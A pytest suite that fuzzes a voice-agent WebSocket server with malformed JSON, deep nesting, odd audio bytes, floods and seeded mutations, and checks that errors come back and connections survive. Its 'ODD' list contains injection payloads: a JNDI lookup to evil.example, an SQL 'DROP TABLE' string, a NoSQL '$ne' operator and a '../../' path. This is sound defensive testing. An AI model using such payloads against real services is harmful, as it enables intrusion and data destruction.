"""Messages that no client should send: each gets its answer, and the connection lives on."""

from __future__ import annotations

import json
import random

import pytest

from tests.hostile.conftest import Server, joined
from tests.hostile.raw import BINARY, TEXT, frame, text
from tests.hostile.talk import audio, event, is_alive

pytestmark = pytest.mark.anyio

NOT_AN_OBJECT = [
    "",
    " ",
    "null",
    "true",
    "7",
    '"text"',
    "[]",
    '[{"type": "ping"}]',
    "not json",
    '{"type": "ping"',
    '{"type": "ping"} x',
    '{"type": "ping"}{"type": "ping"}',
    '\ufeff{"type": "ping"}',
    "{'type': 'ping'}",
    '{"type": "ping",}',
    '{"type": "ping", "id": NaN}',
    '{"type": "ping", "id": Infinity}',
    '{"type": "ping", "id": -Infinity}',
    '{"type": "ping", "id": 1e999}',
    '{"type": "ping", "id": ' + "9" * 5000 + "}",
    '{"type": "ping", "id": "\\ud800"}',
    '{"type": "ping", "id": "\\u0000"}',
    '{"type": "ping", "\\udc00": 1}',
    '{"type": "ping", "id": ' + "[" * 33 + "]" * 33 + "}",
    '{"type": "ping", "id": ' + "[" * 30_000 + "]" * 30_000 + "}",
    '{"a": ' * 9_000 + "1" + "}" * 9_000,
    "[" * 60_000,
]

ODD = [
    "{}",
    '{"type": null}',
    '{"type": 7}',
    '{"type": ["ping"]}',
    '{"type": {"type": "ping"}}',
    '{"type": "PING"}',
    '{"type": "__proto__"}',
    '{"type": "' + "x" * 60_000 + '"}',
    '{"Type": "ping"}',
    '{"type": "ping", "id": {}}',
    '{"type": "ping", "id": "' + "x" * 10_000 + '"}',
    '{"type": "configure", "mode": {"$ne": 1}}',
    '{"type": "configure", "voice": "${jndi:ldap://evil.example/x}"}',
    '{"type": "configure", "agent": "x\'; DROP TABLE items; --"}',
    '{"type": "configure", "tools": [{"name": "../../x"}]}',
    '{"type": "configure", "tools": [{"name": "x", "parameters": {"type": "array"}}]}',
    '{"type": "configure", "instructions": 7}',
    '{"type": "playback", "reply": "1", "played_ms": []}',
    '{"type": "tool_result", "id": "nothing", "output": "x"}',
    '{"type": "speak", "text": null}',
]

HARMLESS = [
    '{"type": "ping", "type": "ping"}',
    '{"type": "ping", "__proto__": {"x": 1}, "constructor": null}',
    json.dumps({"type": "ping", **{f"key{i}": i for i in range(3000)}}),
    '{"type": "configure"}',
    '{"type": "configure", "__class__": "x", "conversation": "y", "token": "z"}',
    '{"type": "cancel"}',
    '{"type": "finalize"}',
    '{"type": "flush"}',
    '{"type": "playback", "reply": 999999, "played_ms": 5}',
]


@pytest.mark.parametrize("message", NOT_AN_OBJECT, ids=lambda message: message[:30])
async def test_what_is_not_one_json_object_is_a_bad_message(server: Server, message: str) -> None:
    async with joined(server, "mode=listen") as (client, _):
        client.send(text(message))
        assert (await event(client, "error"))["code"] == "bad_message"
        assert await is_alive(client)


@pytest.mark.parametrize("message", ODD, ids=lambda message: message[:50])
async def test_odd_fields_are_told_by_name(server: Server, message: str) -> None:
    async with joined(server) as (client, _):
        client.send(text(message))
        error = await event(client, "error")
        assert error["code"] in ("bad_parameter", "unknown_message", "not_found")
        assert len(json.dumps(error)) < 500
        assert await is_alive(client)


@pytest.mark.parametrize("message", HARMLESS, ids=lambda message: message[:50])
async def test_unknown_keys_and_commands_without_an_object_harm_nothing(server: Server, message: str) -> None:
    async with joined(server) as (client, _):
        client.send(text(message), text({"type": "ping", "id": "after"}))
        while (answer := await event(client, "error", "pong")).get("id") != "after":
            assert answer["type"] != "error"


STRANGE_AUDIO = {
    "one byte": b"\1",
    "three bytes": b"\1\2\3",
    "nothing": b"",
    "full scale": b"\xff\x7f" * 8000,
    "square wave": (b"\xff\x7f" * 8 + b"\x00\x80" * 8) * 500,
    "offset": b"\x00\x40" * 8000,
    "noise": random.Random(7).randbytes(32_000),
    "NaN as samples": b"\x00\x00\xc0\x7f" * 4000,
    "JSON as audio": b'{"type": "ping"}' * 100,
    "half a MiB": bytes(1 << 19),
}


@pytest.mark.parametrize("encoding", ["linear16", "mulaw", "alaw", "float32"])
@pytest.mark.parametrize("name", STRANGE_AUDIO)
async def test_any_bytes_are_audio(server: Server, name: str, encoding: str) -> None:
    data = STRANGE_AUDIO[name]
    if encoding in ("mulaw", "alaw"):
        data = data[: 1 << 18]  # a byte a sample, and no more than the burst of 30 s
    async with joined(server, f"mode=listen&encoding={encoding}") as (client, _):
        client.send(frame(BINARY, data), frame(BINARY, b"\1"), text({"type": "ping"}))
        assert (await event(client, "error", "pong"))["type"] == "pong"


async def test_ten_thousand_empty_messages(server: Server) -> None:
    async with joined(server, "mode=listen") as (client, _):
        assert await client.flood(100 * frame(BINARY), 100)
        assert await is_alive(client)


async def test_commands_in_any_order(server: Server) -> None:
    kinds = ["finalize", "cancel", "flush", "finalize", "cancel", "cancel", "flush"]
    async with joined(server, "mode=listen&endpointing_ms=0") as (client, _):
        client.send(audio(200, 3000), *(text({"type": kind}) for kind in kinds), audio(200, 3000))
        assert await is_alive(client)
        client.send(text({"type": "close"}), text({"type": "close"}), text({"type": "text", "text": "too late"}))
        assert (await client.close())[0] == 1000


async def test_ten_barge_ins(server: Server) -> None:
    async with joined(server, "endpointing_ms=100") as (client, _):
        for _ in range(10):
            client.send(audio(300, 3000), audio(400))
            await event(client, "audio.start")
        assert await is_alive(client)


async def test_mutations(server: Server) -> None:
    """Seeded noise on good messages: only documented codes, and no connection lost but for too many errors."""
    dice = random.Random(20_260)
    good = [
        json.dumps(each).encode()
        for each in (
            {"type": "ping", "id": "a"},
            {"type": "configure", "sample_rate": 8000, "words": True, "language": "en"},
            {"type": "speak", "text": "Hello there.", "flush": True},
            {"type": "playback", "reply": 1, "played_ms": 200},
            {"type": "tool_result", "id": "x", "output": {"a": [1, 2, 3]}},
            {"type": "cancel"},
        )
    ]
    codes = {"bad_message", "bad_parameter", "unknown_message", "not_found", "nothing_to_speak", "rate_limited"}
    for _ in range(60):
        async with joined(server, "mode=listen") as (client, _):
            for _ in range(18):  # under the burst of messages and the number of errors
                client.send(frame(TEXT, mutated(dice.choice(good), dice)))
            client.send(text({"type": "ping", "id": "after"}))
            while (answer := await event(client, "error", "pong")).get("id") != "after":
                assert answer["type"] == "pong" or answer["code"] in codes


def mutated(message: bytes, dice: random.Random) -> bytes:
    """Change some characters of a message, to what stays UTF-8."""
    letters = list(message.decode())
    for _ in range(dice.randint(1, 6)):
        at = dice.randrange(len(letters))
        match dice.randrange(4):
            case 0:
                del letters[at : at + dice.randint(1, 5)]
            case 1:
                letters.insert(at, chr(dice.choice([0, 34, 92, 123, 125, 0x7F, 0xD7FF, 0xFFFD, 0x1F600])))
            case 2:
                letters[at] = dice.choice('{}[]",:0-e\\')
            case _:
                letters[at:at] = letters[at : at + 10] * 3
        letters = letters or ["x"]
    return "".join(letters).encode()
